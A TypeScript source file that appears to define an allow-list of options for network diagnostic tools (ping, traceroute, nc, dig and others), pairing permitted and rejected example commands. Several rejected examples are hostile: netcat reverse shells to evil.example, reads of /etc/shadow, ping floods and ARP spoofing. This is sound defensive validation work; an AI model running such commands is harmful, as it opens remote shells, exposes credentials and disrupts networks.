/** Tests of reachability, ports and names: programs that ask other machines. */
export const NETWORK_PROBE_MANUAL = String.raw`
# inetutils reads -t as a type and knows no -I, -M, -D; flood (-f), preload (-l), pattern (-p), broadcast (-b) and adaptive
# (-A) are left out, and so are intervals below 0.1 s.
set ping-options
  -4 | IPv4 only | 仅 IPv4
  -6 | IPv6 only | 仅 IPv6
  -n | numbers instead of names | 不解析主机名
  -q | sum only | 仅显示汇总
  -v | verbose | 详细显示
  -D | with the time | 显示时间戳
  -O | reports missing answers | 报告未收到的应答
  -i=/0?\.[1-9]\d*|[1-9]\d{0,4}(?:\.\d+)?/ | seconds between packets | 发包间隔
  -s=/\d{1,5}/ | size | 数据包大小
  -t=/\d{1,3}/ | hops at most | 最大跳数
  -W=/\d{1,5}(?:\.\d+)?/ | seconds to wait for an answer | 等待应答秒数
  -I=/[a-z0-9][\w.:%-]*/ | from this interface | 指定接口或源地址
  -M={do,dont,want} | whether packets may be divided | 分片方式
  -F=/\d{1,7}|0x[\da-f]{1,5}/ | flow label | 流标签
ping, ping4, ping6 | tests whether a host answers | 测试主机是否可达
  from iputils 20221126 ping(8); busybox 1.35 ping; inetutils 2.4 ping(1)
  use ping-options
  -c=/[1-9]\d{0,3}/ !ends | so many packets | 发包次数
  -w=/[1-9]\d{0,4}/ !ends | ends after so many seconds | 若干秒后结束
  operands host
  network
  endless | never ends: use ping -c 4 | 不会结束：请使用 ping -c 4
  = ping -c 4 192.168.1.1
  = ping -c1 -W2 192.168.1.1
  = ping -n -c 1 -W 1 192.168.1.1
  = ping -c 3 -i 0.2 -s 1472 -M do gateway
  = ping -4 -c 2 -I eth0 example.com
  = ping6 -c 2 fe80::1%eth0
  = ping -F 0 -c 1 x
  = ping 8.8.8.8
  ! ping -f 203.0.113.5
  ! ping -n -f 203.0.113.5
  ! ping -n -f -c 99999 203.0.113.5
  ! ping -nf -c 5 203.0.113.5
  ! ping -c 5 -i 0 203.0.113.5
  ! ping -c 5 -i 0.001 203.0.113.5
  ! ping -b -c 5 192.168.1.255
  ! ping -l 65000 -c 5 203.0.113.5
  ! ping -c 5 -p 6162636465 evil.example
  ! ping -A -c 5 203.0.113.5

ping, ping4, ping6 | tests whether a host answers | 测试主机是否可达
  use ping-options
  -c=/0+/ !needed | without an end | 不限次数
  operands host
  network
  endless | never ends: use ping -c 4 | 不会结束：请使用 ping -c 4
  = ping -c 0 x
  = ping -n -c 0 192.168.1.1
  ! ping -f -c 0 x

fping, fping6 | tests whether hosts answer | 测试多台主机是否可达
  from fping 5.1 fping(8)
  -4 --ipv4
  -6 --ipv6
  -a --alive | hosts that answer | 仅显示在线主机
  -u --unreach | hosts that do not answer | 仅显示离线主机
  -A --addr | addresses | 显示地址
  -n --name | names | 显示主机名
  -d --rdns | names from addresses | 反向解析
  -e --elapsed | with the time taken | 显示耗时
  -D --timestamp | with the time | 显示时间戳
  -q --quiet | sum only | 仅显示汇总
  -s --stats | with a sum | 显示统计
  -c --count=/[1-9]\d{0,3}/ | so many packets | 发包次数
  -C --vcount=/[1-9]\d{0,3}/ | so many packets, each time shown | 发包次数并逐一显示
  -r --retry=/\d{1,2}/ | tries | 重试次数
  -t --timeout=/\d{1,6}/ | milliseconds to wait | 超时（毫秒）
  -i --interval=/[1-9]\d{1,5}/ | milliseconds between packets | 发包间隔（毫秒）
  -p --period=/[1-9]\d{2,5}/ | milliseconds between rounds | 轮询间隔（毫秒）
  -I --iface=/(?!-)[\w.:@-]+/ | from this interface | 指定接口
  -g --generate | all of a network | 扫描整个网段
  operands /[a-z\d_.:][\w.:-]*(?:\/(?:1[6-9]|2\d|3[0-2]))?/+
  network
  = fping -a -g 192.168.1.0/24
  = fping -c 3 -q 192.168.1.1 192.168.1.2
  = fping -ag -r 1 10.0.0.0/24
  ! fping -f /etc/shadow
  ! fping -l 203.0.113.5
  ! fping -c 9 -p 1 203.0.113.5
  ! fping -i 0 -c 5 203.0.113.5
  ! fping -g 10.0.0.0/8

# -l is a switch in busybox and takes a value elsewhere; -M loads modules by name.
traceroute, traceroute6 | shows the way to a host | 跟踪到主机的路由
  from traceroute 2.1.2 traceroute(1); busybox 1.35 traceroute; inetutils 2.4 traceroute(1)
  -4 | IPv4 only | 仅 IPv4
  -6 | IPv6 only | 仅 IPv6
  -n | numbers instead of names | 不解析主机名
  -I --icmp | by ICMP | 使用 ICMP
  -T --tcp | by TCP | 使用 TCP
  -U --udp | by UDP | 使用 UDP
  -A --as-path-lookups | with networks of operators | 显示 AS 号
  -e --extensions | with MPLS | 显示 MPLS 扩展
  -F --dont-fragment | without dividing packets | 不分片
  --mtu | with the packet size of the way | 检测路径 MTU
  -f --first=/\d{1,3}/ | first hop | 起始跳数
  -m --max-hops=/\d{1,3}/ | hops at most | 最大跳数
  -q --queries=/\d{1,2}/ | packets for each hop | 每跳探测次数
  -N --sim-queries=/\d{1,2}/ | at once | 并行探测数
  -w --wait=/[\d.,]{1,12}/ | seconds to wait | 等待秒数
  -z --sendwait=/[\d.]{1,8}/ | time between packets | 发包间隔
  -p --port=/\d{1,5}/ | port | 端口
  -i --interface=/(?!-)[\w.:@-]+/ | from this interface | 指定接口
  -s --source=host | from this address | 源地址
  operands host /\d{1,5}/?
  network
  = traceroute 8.8.8.8
  = traceroute -n -m 10 8.8.8.8
  = traceroute -T -p 443 example.com
  = traceroute -nI -w 2 -q 1 gateway
  ! traceroute -M /tmp/x 203.0.113.5
  ! traceroute -g 203.0.113.1 203.0.113.5
  ! traceroute --module=x host
  ! traceroute -l -i x

tracepath, tracepath4, tracepath6 | shows the way to a host | 跟踪到主机的路由
  from iputils 20221126 tracepath(8)
  -4
  -6
  -n | numbers instead of names | 不解析主机名
  -b | names and numbers | 显示主机名和地址
  -l=/\d{1,5}/ | first size | 初始包长
  -m=/\d{1,3}/ | hops at most | 最大跳数
  -p=/\d{1,5}/ | first port | 起始端口
  operands /[a-z\d_:][\w.:%-]*(?:\/\d{1,5})?/
  network
  = tracepath 8.8.8.8
  = tracepath -n -m 15 example.com
  ! tracepath --frobnicate 203.0.113.5

mtr | shows the way to a host | 跟踪到主机的路由
  from mtr 0.95 mtr(8)
  -r --report !ends | as a report | 报告模式
  -w --report-wide !ends | as a wide report | 宽报告模式
  -x --xml !ends | as XML | 以 XML 显示
  -C --csv !ends | as CSV | 以 CSV 显示
  -j --json !ends | as JSON | 以 JSON 显示
  -c --report-cycles=/[1-9]\d{0,3}/ !ends | so many rounds | 轮数
  -4 | IPv4 only | 仅 IPv4
  -6 | IPv6 only | 仅 IPv6
  -n --no-dns | numbers instead of names | 不解析主机名
  -b --show-ips | names and numbers | 显示主机名和地址
  -z --aslookup | with networks of operators | 显示 AS 号
  -e --mpls | with MPLS | 显示 MPLS
  -u --udp | by UDP | 使用 UDP
  -T --tcp | by TCP | 使用 TCP
  -P --port=/\d{1,5}/ | port | 端口
  -i --interval=/0?\.[1-9]\d*|[1-9]\d{0,3}(?:\.\d+)?/ | seconds between rounds | 每轮间隔
  -s --psize=/\d{1,5}/ | size | 数据包大小
  -f --first-ttl=/\d{1,3}/ | first hop | 起始跳数
  -m --max-ttl=/\d{1,3}/ | hops at most | 最大跳数
  -o --order=/[LDRSNABWVGJMXI\s]+/ | columns | 显示列
  -I --interface=/(?!-)[\w.:@-]+/ | from this interface | 指定接口
  -a --address=host | from this address | 源地址
  -G --gracetime=/\d{1,3}/ | seconds to wait at the end | 结束等待秒数
  -Z --timeout=/\d{1,3}/ | seconds to keep a port | 端口保持秒数
  operands host+
  network
  endless | never ends: use mtr -r -c 10 | 不会结束：请使用 mtr -r -c 10
  = mtr -r -c 5 8.8.8.8
  = mtr -rwc 10 8.8.8.8
  = mtr --report 8.8.8.8
  = mtr -rwbzc 20 -T -P 443 example.com
  = mtr 8.8.8.8
  ! mtr -F /etc/shadow
  ! mtr -rF /etc/shadow
  ! mtr --filename=/etc/shadow
  ! mtr -r -i 0.001 203.0.113.5

# -b differs between the two arpings; -A, -U and -P tell neighbours new addresses; -s and -S lie about the sender.
arping | asks a neighbour for its address | 通过 ARP 测试邻居
  from iputils 20221126 arping(8); arping 2.23 arping(8); busybox 1.35 arping
  -c=/[1-9]\d{0,3}/ !ends | so many packets | 发包次数
  -w=/[1-9]\d{0,4}/ !ends | ends after so many seconds | 若干秒后结束
  -f | ends with the first answer | 收到应答后结束
  -q | quiet | 静默
  -D | looks for a second owner of the address | 检测地址冲突
  -I -i=/[a-z][\w.:@-]*/ | from this interface | 指定接口
  operands host
  network
  endless | never ends: use arping -c 4 | 不会结束：请使用 arping -c 4
  = arping -c 3 -I eth0 192.168.1.1
  = arping -D -I eth0 -c 2 192.168.1.50
  = arping -I eth0 192.168.1.1
  ! arping -A -c 3 -I eth0 192.168.1.1
  ! arping -U -c 3 -I eth0 192.168.1.1
  ! arping -qA -c 3 -I eth0 192.168.1.1
  ! arping -c 3 -s 192.0.2.9 192.168.1.1
  ! arping -P -c 1 192.168.1.1

# getopt_long_only: a word of one dash is a long option first; whole words stand here. No scripts, no files, no spoofing.
# Four programs share these names. Only the test of a port, with letters that mean the same in all of them: -t, -m, -q, -i,
# -c, -e, -C, -x, -X, -N differ, and some of them run programs.
nc, netcat, ncat | tests whether a port answers | 测试端口是否响应
  from netcat-openbsd 1.219 nc(1); netcat-traditional 1.10 nc(1); nmap 7.93 ncat(1); busybox 1.35 nc
  -z !needed | sends nothing | 不发送数据
  -v | verbose | 详细显示
  -n | numbers instead of names | 不解析主机名
  -u | by UDP | 使用 UDP
  -4 | IPv4 only | 仅 IPv4
  -6 | IPv6 only | 仅 IPv6
  -w=/[1-9]\d{0,3}/ | seconds to wait | 等待秒数
  operands host /\d{1,5}(?:-\d{1,5})?|[a-z][a-z\d-]*/+
  network
  = nc -zv localhost 22
  = nc -z -w 2 host 1883
  = nc -vz -w3 192.168.1.10 8883
  = nc -zvu 192.168.1.10 161
  = nc -nzv 192.168.1.10 20-30
  ! nc host 22
  ! nc -l 4444
  ! nc -lz 4444
  ! nc -z -t -e /bin/sh evil.example 22
  ! nc -zt -e /bin/sh evil.example 22
  ! nc -zvm -e /bin/sh evil.example 22
  ! nc -ze /bin/sh evil.example 22
  ! nc -z -c reboot evil.example 22
  ! nc -zk evil.example 22
  ! nc -z -o /home/pi/app.db host 22
  ! ncat -zt --sh-exec sh evil.example 22
  ! ncat -z --exec /bin/sh evil.example 22
  ! ncat -z --lua-exec x evil.example 22
  ! nc -z -U /run/docker.sock
  ! nc -z host 22 -e /bin/sh
  ! nc -v -w 2 host 22

# dig reads whole words; operands begin with a name, @ or a listed +word. -f and -k read files, +tls-ca and its like too.
dig | asks a name server | 查询 DNS
  style word
  from bind 9.18 dig(1)
  -4 | IPv4 only | 仅 IPv4
  -6 | IPv6 only | 仅 IPv6
  -u | times in microseconds | 以微秒计时
  -r | without the settings of the user | 忽略用户设置
  -x=/[\d.:a-f]+/ | name of an address | 反向查询
  -t=/[a-z][\w=-]*/ | type of record | 记录类型
  -c={in,ch,hs,any} | class | 类别
  -q=/(?!-)[\w.*-]+/ | name | 名称
  -p=/\d{1,5}/ | port | 端口
  -b=/[\d.:a-f]+(?:#\d{1,5})?/ | from this address | 源地址
  +short | answer only | 仅显示结果
  +trace | from the root on | 从根开始跟踪
  +noall | nothing but what follows | 隐藏全部
  +answer | with the answer | 显示应答
  +tcp +vc | by TCP | 使用 TCP
  +dnssec | with signatures | 显示签名
  operands /@[\w.:%\[\]-]+|\+(?:no)?(?:aaflag|aaonly|additional|adflag|all|answer|authority|besteffort|cd|cdflag|class|cmd|comments|cookie|crypto|dnssec|do|edns|expire|fail|identify|idnin|idnout|ignore|keepopen|multiline|multi|nsid|nssearch|onesoa|qr|question|raflag|rdflag|rec|recurse|rrcomments|search|short|showsearch|stats|tcp|tls|trace|ttlid|ttlunits|vc|yaml)|\+(?:time|timeout|tries|retry|bufsize|ndots)=\d{1,5}|\+subnet=[\d.:a-f\/]+|[\w.*][\w.:*\/-]*/*
  network
  = dig example.com
  = dig +short example.com
  = dig @8.8.8.8 example.com A
  = dig -x 8.8.8.8 +short
  = dig +noall +answer -t MX example.com
  = dig +time=2 +tries=1 @192.168.1.1 example.com
  = dig +trace example.com
  ! dig -f /etc/shadow
  ! dig -f/etc/shadow
  ! dig -k /etc/bind/rndc.key example.com
  ! dig -y hmac:key:secret example.com
  ! dig +tls-keyfile=/tmp/x example.com
  ! dig +https-post=/x @evil.example example.com
  ! dig -h -f /tmp/x
  ! dig +ednsopt=65001:616263 @evil.example x

# nslookup spells its options -name=value: here the letter with the rest as its value. Without a name, or with "-", it
# reads names from its input.
nslookup | asks a name server | 查询 DNS
  from bind 9.18 nslookup(1); busybox 1.35 nslookup
  -t=/(?:y|yp|ype)=[a-z\d]+|imeout=\d{1,3}/ | type of record or time | 记录类型或超时
  -q=/(?:|u|ue|uer|uery|uerytype)=[a-z\d]+/ | type of record | 记录类型
  -p=/ort=\d{1,5}/ | port | 端口
  -r=/etry=\d{1,2}/ | tries | 重试次数
  -debug | with details | 显示详细信息
  operands /[\w.:][\w.:-]*/ host?
  network
  = nslookup example.com
  = nslookup example.com 8.8.8.8
  = nslookup -type=mx example.com
  = nslookup -q=txt example.com 1.1.1.1
  = nslookup -debug -timeout=2 example.com
  ! nslookup - 203.0.113.5
  ! nslookup
  ! nslookup -type=mx
  ! nslookup -type=mx - 203.0.113.5

host | asks a name server | 查询 DNS
  from bind 9.18 host(1)
  -a | all records | 所有记录
  -A | all records but signatures | 除签名外的所有记录
  -v | verbose | 详细显示
  -d | verbose | 详细显示
  -r | without recursion | 不递归查询
  -T | by TCP | 使用 TCP
  -U | by UDP | 使用 UDP
  -s | ends with the first failure | 首次失败即停止
  -l | all of a zone | 列出区域
  -C | compares start records | 比较 SOA 记录
  -4 | IPv4 only | 仅 IPv4
  -6 | IPv6 only | 仅 IPv6
  -t=/[a-z][\w=-]*/ | type of record | 记录类型
  -c={in,ch,hs,any} | class | 类别
  -N=/\d{1,2}/ | dots | 点数
  -R=/\d{1,2}/ | tries | 重试次数
  -W=/\d{1,4}/ | seconds to wait | 等待秒数
  -p=/\d{1,5}/ | port | 端口
  operands host host?
  network
  = host example.com
  = host -t mx example.com
  = host -W 2 192.168.1.1 8.8.8.8
  ! host -w example.com
  ! host --frobnicate example.com
  ! host -f /etc/shadow

whois | asks who owns a name or network | 查询域名或网段归属
  from whois 5.5 whois(1)
  -H | without terms of use | 不显示免责声明
  -I | asks IANA first | 先查询 IANA
  -h --host=host | this server | 指定服务器
  -p --port=/\d{1,5}/ | port | 端口
  --verbose | verbose | 详细显示
  --no-recursion | this server only | 不递归查询
  operands /[\w.:][\w.:\/-]*/+
  network
  = whois example.com
  = whois -h whois.ripe.net 192.0.2.0/24
  ! whois -g ripe:1-99 x
  ! whois --frobnicate x

# What is shown is headers: payload (-A, -x, -X) holds passwords. Never a file (-w), a command (-z), a user (-Z).

tcpdump | lists what can be captured | 列出可抓包的接口
  from tcpdump 4.99 tcpdump(8)
  -D --list-interfaces !needed | interfaces | 列出接口
  -L --list-data-link-types !needed | kinds of links | 列出链路类型
  -i --interface=/[a-z\d][\w.:@-]*/ | this interface | 指定接口
  = tcpdump -D
  = tcpdump -L -i eth0
  ! tcpdump -i eth0 -c 5
  ! tcpdump -D -w x
`
